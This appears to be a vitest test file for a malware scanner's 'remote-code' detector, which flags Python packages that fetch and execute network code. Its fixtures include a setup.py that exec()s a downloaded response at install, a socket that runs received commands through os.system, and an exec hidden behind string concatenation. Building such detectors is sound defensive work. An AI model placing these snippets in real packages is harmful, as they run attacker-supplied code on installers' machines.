import { expect, test } from 'vitest';
import { inspect, python, sdist, wheel } from '../../support/inspect.ts';

test('a response that is executed at install is malware at the line of exec', async () => {
  const file = sdist({
    'setup.py': python(
      'import requests',
      'from setuptools import setup',
      "text = requests.get('https://raw.snippets.invalid/a').text",
      'exec(text)',
      "setup(name='example')",
    ),
  });

  const findings = await inspect('remote-code', file);

  expect(findings).toMatchObject([
    { class: 'malware', score: 10, context: 'install', path: 'example-1.0.0/setup.py', line: 4 },
  ]);
  expect(findings[0]?.chain).toContainEqual(expect.objectContaining({ role: 'source', line: 3 }));
});

test('a command that a socket received and a shell runs is malware even on call', async () => {
  const file = wheel({
    'pkg/agent.py': python(
      'import os, socket',
      'def serve():',
      '    s = socket.socket()',
      "    s.connect(('agent.tools.invalid', 4000))",
      '    os.system(s.recv(1024).decode())',
    ),
  });

  expect(await inspect('remote-code', file)).toMatchObject([
    { class: 'malware', score: 10, context: 'call', path: 'pkg/agent.py', line: 5 },
  ]);
});

test('a response that is parsed and a file of the archive that is executed are silent', async () => {
  const file = sdist({
    'setup.py': python(
      'import json',
      'from urllib.request import urlopen',
      'from setuptools import setup',
      "latest = json.loads(urlopen('https://api.service.invalid/versions').read())",
      'space = {}',
      "exec(open('pkg/_version.py').read(), space)",
      "setup(name='example')",
    ),
    'pkg/_version.py': "__version__ = '1.0.0'\n",
  });

  expect(await inspect('remote-code', file)).toEqual([]);
});

test('a response that passes through a module of its own, compile and builtins is found', async () => {
  const file = wheel({
    'pkg/__init__.py': python(
      'import builtins',
      'from .wire import fetch',
      "run = vars(builtins)['ex' + 'ec']",
      "run(compile(fetch(), '<pkg>', 'exec'))",
    ),
    'pkg/wire.py': python(
      'from urllib import request as r',
      'def fetch():',
      "    with r.urlopen('https://raw.snippets.invalid/a') as answer:",
      '        return answer.read().decode()',
    ),
  });

  expect(await inspect('remote-code', file)).toMatchObject([
    { class: 'malware', context: 'import', path: 'pkg/__init__.py', line: 4 },
  ]);
});
